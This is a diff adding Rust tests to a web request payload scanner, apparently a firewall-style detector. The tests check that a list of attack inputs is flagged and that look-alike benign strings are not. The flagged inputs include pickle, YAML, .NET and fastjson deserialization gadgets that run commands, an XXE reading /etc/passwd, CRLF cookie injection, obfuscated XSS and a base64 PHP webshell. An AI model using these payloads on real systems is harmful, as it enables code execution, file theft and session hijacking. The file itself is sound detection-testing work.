@@ -286,7 +286,9 @@ proptest! {
             text.insert_str(at, p);
         }
         let f = scan(&PayloadInput::only(location, &text), &mut Scratch::default());
-        prop_assert!(f.values > 0 || text.is_empty());
+        // A request target that starts with `#` is a fragment alone: no value to scan.
+        let fragment_only = matches!(location, Location::Path | Location::Query) && text.starts_with('#');
+        prop_assert!(f.values > 0 || text.is_empty() || fragment_only);
     }
 }
 
@@ -402,4 +404,135 @@ fn multipart_parts_busboy_parses_are_scanned() {
     }
     let f = body("--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename*=UTF-8''%3Cscript%3Ealert(1)%3C%2Fscript%3E.txt\r\nContent-Type: text/plain\r\n\r\nhello\r\n--XyZ--\r\n");
     assert_eq!(f.confirmed(Family::Xss), 1, "{f:?}");
+}
+
+/// A request as the decision layer holds it: the target, header pairs and body fields.
+fn request(path: &str, headers: &[(&str, &str)], fields: &[&str]) -> PayloadFindings {
+    let region: Vec<String> = headers.iter().map(|(n, v)| format!("{n}\0{v}")).collect();
+    let region = region.join("\0");
+    let body = fields.join("\0");
+    let texts = refiner_core::decision::Texts {
+        path,
+        header_region: &region,
+        header_pairs: headers.len(),
+        body_region: &body,
+        body_fields: fields.len(),
+        ..Default::default()
+    };
+    refiner_core::features::payload::scan_texts(&texts, &mut Scratch::default())
+}
+
+const CHROME_UA: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";
+
+#[test]
+fn second_red_team_classes_are_confirmed_where_they_arrive() {
+    let form = |v: &str| request("/contact", &[], &[&format!("p={}", v.replace('\n', "%0A").replace('\'', "%27"))]);
+    let json = |v: &str| request("/api/x", &[], &[v]);
+    let query = |q: &str| request(&format!("/search?q={q}"), &[], &[]);
+    let ua = |v: &str| request("/", &[("user-agent", &format!("{CHROME_UA} {v}"))], &[]);
+    let cases: Vec<(Family, &str, PayloadFindings)> = vec![
+        (Family::Code, "pickle form", form("cos\nsystem\n(S'id'\ntR.")),
+        (Family::Code, "$type value", json("System.Windows.Data.ObjectDataProvider, PresentationFramework")),
+        (Family::Code, "$type raw json", body(r#"{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}"#)),
+        (Family::Code, "WindowsIdentity", json("System.Security.Principal.WindowsIdentity, mscorlib")),
+        (Family::Code, "fastjson", body(r#"{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x.example/a","autoCommit":true}"#)),
+        (Family::Code, "yaml", json("!!python/object/apply:os.system [\"id\"]")),
+        (Family::Code, "php array", form("a:2:{i:0;O:11:\"Monolog\\Handler\":0:{}i:1;s:1:\"x\";}")),
+        (Family::Code, "__import__ in ua", ua("__import__('os').system('id')")),
+        (Family::Xss, "concat", query("top%5B%27al%27%2B%27ert%27%5D(1)")),
+        (Family::Xss, "concat window", json("window['ale'+'rt'](document.cookie)")),
+        (Family::Xss, "atob", json("self[atob('YWxlcnQ=')](1)")),
+        (Family::Xss, "(alert)(1)", query("(alert)(1)")),
+        (Family::Xss, "constructor", json("[].constructor.constructor('alert(1)')()")),
+        (Family::Xss, "dquote json", json("\"-alert(1)-\"")),
+        (Family::Xss, "backtick", json("`+alert(1)+`")),
+        (Family::Crlf, "unicode json", json("%E5%98%8A%E5%98%8DSet-Cookie:%20x=1")),
+        (Family::Crlf, "unicode form", request("/c", &[], &["to=%E5%98%8A%E5%98%8DSet-Cookie:%20x=1"])),
+        (Family::Crlf, "unicode json key", body("{\"\u{560A}\u{560D}Set-Cookie: x=1\":1}")),
+        (Family::Crlf, "ua", ua("%0d%0aSet-Cookie:%20sessionid=attacker")),
+        (Family::Xxe, "ua", ua("<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>")),
+        (Family::Xxe, "referer query", request("/", &[("referer", "https://shop.example/?q=%3C!DOCTYPE%20foo%20%5B%3C!ENTITY%20xxe%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fpasswd%22%3E%5D%3E%3Cfoo%3E%26xxe%3B%3C%2Ffoo%3E")], &[])),
+        (Family::Ssrf, "circled", query("http://%E2%91%A0%E2%91%A1%E2%91%A6.%E2%93%AA.%E2%93%AA.%E2%91%A0/")),
+        (Family::Xss, "base64 json", body(r#"{"data":"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="}"#)),
+        (Family::Code, "base64 json php", body(r#"{"data":"PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="}"#)),
+    ];
+    for (family, name, f) in cases {
+        assert!(f.confirmed(family) > 0, "{family:?} not confirmed: {name}: {f:?}");
+    }
+    let proto4 = b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.";
+    let f = scan_value(proto4, Decode::None, Location::Body, &mut Scratch::default());
+    assert_eq!(f.confirmed(Family::Code), 1, "{f:?}");
+    assert!(body(r#"{"data":"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="}"#).obfuscated, "base64 is an encoding beyond the app's");
+    // Pickles as apps keep them in cookies: base64 of protocol 4 and 2 (`os.system('id')`).
+    for cookie in ["session=gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", "s=gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg=="] {
+        let f = scan(&PayloadInput { cookies: cookie, ..Default::default() }, &mut Scratch::default());
+        assert!(f.confirmed_in(Family::Code, Location::Cookie), "{cookie}: {f:?}");
+    }
+    // A Fernet token and a pickle of plain data stay benign.
+    for cookie in ["t=gAAAAABnV3Zr9X8uWQ2mY1lT3h2s6QHcR8mJ4xF0vKpE5N7aB3cD9eF1gH2iJ4kL6mN8oP0qR2sT4uV6wX8yZ0==", "p=gASVMAAAAAAAAAB9lCiMBHVzZXKUjARhbm5hlIwEY2FydJRdlChLAUsCSwNljARsYW5nlIwCZW6UdS4="] {
+        let f = scan(&PayloadInput { cookies: cookie, ..Default::default() }, &mut Scratch::default());
+        assert!(!f.any_confirmed(), "{cookie}: {f:?}");
+    }
+}
+
+#[test]
+fn near_misses_of_the_second_red_team_classes_stay_unconfirmed() {
+    let texts = [
+        // Pickle and YAML look-alikes.
+        "Basic cos\nsystem\nof equations; Result.",
+        "pickle.loads(data) calls os.system if the data says so",
+        "tags: !!str 5\nlist: !!seq [a, b]",
+        "Is !!python/object/apply dangerous? yaml.safe_load refuses it",
+        // .NET and Java type names where apps and developers have them.
+        r#"{"$type":"MyApp.Models.Order, MyApp","Id":3}"#,
+        "MyApp.Models.Order, MyApp",
+        "System.Diagnostics.Process",
+        "How do I start System.Diagnostics.Process with arguments?",
+        "System.Diagnostics.Process and System.IO are in the list",
+        "see [com.sun.rowset.JdbcRowSetImpl](https://docs.example/x)",
+        // PHP arrays without objects; Python imports in prose.
+        "a:2:{i:0;s:1:\"a\";i:1;s:1:\"b\";}",
+        "import os; os.system is deprecated, use subprocess",
+        // JS that indexes globals by names it holds, or spells a harmless one.
+        "window[name](1)",
+        "window['on'+'load'] = init",
+        "window['my' + 'Handler'](event)",
+        "var g = ({}).constructor.constructor('return this')();",
+        "Notification type (alert) (optional)",
+        "(alert)",
+        // CSS that only looks like IE's behavior.
+        "html { scroll-behavior: smooth }",
+        // Line breaks and U+560D in Chinese text.
+        "他們都是嘍囉\nX-Men: 好看",
+        "大家好嘍\nLocation: https://maps.example/x",
+        // Hosts a URL parser folds, that stay ordinary.
+        "http://ⓔⓧⓐⓜⓟⓛⓔ.com/",
+        "https://例子.测试/路径",
+        // Base64 that is no text, or text that is harmless.
+        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
+        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
+        "SGVsbG8sIHdvcmxkISBTZWUgeW91IGF0IDEwOjMwLg==",
+        "eyJyZWRpcmVjdCI6Imh0dHA6Ly9sb2NhbGhvc3Q6MzAwMC9jYWxsYmFjayJ9",
+        "d41d8cd98f00b204e9800998ecf8427e",
+        "550e8400-e29b-41d4-a716-446655440000",
+    ];
+    for t in texts {
+        let f = value(t);
+        assert!(!f.any_confirmed(), "{t}: {:?}", confirmed(&f));
+        let f = body(&format!("{{\"v\":{}}}", serde_json::to_string(t).unwrap()));
+        assert!(!f.any_confirmed(), "{t} in JSON: {:?}", confirmed(&f));
+    }
+    // The same texts in a referer's share link and a user agent.
+    let share = request("/", &[("referer", "https://social.example/share?text=Party%20tonight!%0D%0ASet-Cookie:%20ok=1")], &[]);
+    assert_eq!(share.confirmed(Family::Crlf), 0, "{share:?}");
+    let ua = request("/", &[("user-agent", &format!("{CHROME_UA} MyApp/1.0 (+https://myapp.example/bot)"))], &[]);
+    assert!(!ua.any_confirmed(), "{ua:?}");
+}
+
+#[test]
+fn a_leading_or_before_an_unterminated_quote_is_scanned_without_panic() {
+    for v in ["or 'x", "and \"update", "' or 'a", "|| 'b"] {
+        let _ = value(v);
+        let _ = scan(&PayloadInput { path: &format!("/s?q={}", v.replace(' ', "+")), ..Default::default() }, &mut Scratch::default());
+    }
 }
